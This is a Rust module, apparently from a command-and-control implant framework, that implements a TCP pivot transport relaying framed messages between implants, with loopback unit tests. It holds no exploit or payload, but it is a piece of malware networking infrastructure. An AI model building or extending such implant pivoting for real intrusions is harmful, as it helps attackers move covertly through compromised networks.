//! TCP pivot carrier: a plain TCP connection to another implant acting
//! as a relay. No handshake of its own, the pivot peer is trusted to
//! forward frames upstream.

use super::{stream, ConnectError, Connection};
use crate::{envelope::EnvelopeCodec, state};
use log::debug;
use std::{sync::Arc, time::Duration};
use tokio::net::TcpStream;
use tokio_util::codec::Framed;
use url::Url;

/// Interval between keep-alive pings on an idle pivot link
const PING_INTERVAL: Duration = Duration::from_secs(60);

pub(super) async fn connect(uri: &Url) -> Result<Arc<Connection>, ConnectError> {
    let host = uri.host_str().ok_or(ConnectError::InvalidUri)?;
    let port = uri.port().ok_or(ConnectError::InvalidUri)?;

    debug!("[tcp-pivot] Connecting to {host}:{port}");
    let socket = TcpStream::connect((host, port)).await?;

    let io = Framed::new(socket, EnvelopeCodec);
    let connection = stream::spawn(
        io,
        PING_INTERVAL,
        Box::new(|| debug!("[tcp-pivot] Lost connection, cleaning up")),
    );

    state::set_active_connection(connection.clone());
    Ok(connection)
}

#[cfg(test)]
mod test {
    use crate::envelope::{msg, Envelope, EnvelopeCodec};
    use crate::transports::Connection;
    use bytes::BytesMut;
    use std::sync::Arc;
    use tokio::{
        io::{AsyncReadExt, AsyncWriteExt},
        net::{TcpListener, TcpStream},
    };
    use tokio_util::codec::{Decoder, Encoder};
    use url::Url;

    /// Connects a carrier to a loopback listener returning both ends
    async fn pivot_pair() -> (Arc<Connection>, TcpStream) {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();

        let uri = Url::parse(&format!("tcppivot://127.0.0.1:{}", addr.port())).unwrap();
        let (connection, accepted) =
            tokio::join!(super::connect(&uri), async { listener.accept().await });

        (connection.unwrap(), accepted.unwrap().0)
    }

    /// Reads one framed envelope straight off the peer socket
    async fn read_frame(socket: &mut TcpStream) -> Envelope {
        let mut prefix = [0u8; 4];
        socket.read_exact(&mut prefix).await.unwrap();
        let length = u32::from_be_bytes(prefix) as usize;

        let mut frame = vec![0u8; length];
        socket.read_exact(&mut frame).await.unwrap();

        let mut buffer = BytesMut::new();
        buffer.extend_from_slice(&prefix);
        buffer.extend_from_slice(&frame);
        EnvelopeCodec.decode(&mut buffer).unwrap().unwrap()
    }

    /// Tests that outbound envelopes arrive framed and in enqueue order
    #[tokio::test]
    async fn test_outbound_fifo() {
        let (connection, mut peer) = pivot_pair().await;

        for index in 0..10u8 {
            connection
                .send(Envelope::new(msg::TUNNEL_DATA, vec![index]))
                .await;
        }

        for index in 0..10u8 {
            let envelope = read_frame(&mut peer).await;
            assert_eq!(envelope.r#type, msg::TUNNEL_DATA);
            assert_eq!(envelope.data, vec![index]);
        }

        connection.cleanup();
    }

    /// Tests that inbound frames surface through the connection and
    /// that the peer closing the socket closes the connection
    #[tokio::test]
    async fn test_inbound_and_peer_close() {
        let (connection, mut peer) = pivot_pair().await;

        let mut buffer = BytesMut::new();
        EnvelopeCodec
            .encode(Envelope::new(msg::TUNNEL_CLOSE, b"bye".to_vec()), &mut buffer)
            .unwrap();
        peer.write_all(&buffer).await.unwrap();

        let envelope = connection.recv().await.unwrap();
        assert_eq!(envelope.r#type, msg::TUNNEL_CLOSE);
        assert_eq!(envelope.data, b"bye".to_vec());

        // Graceful close from the peer must drain through as a closed
        // channel, not an error
        drop(peer);
        assert!(connection.recv().await.is_none());
        assert!(!connection.is_open());
    }
}
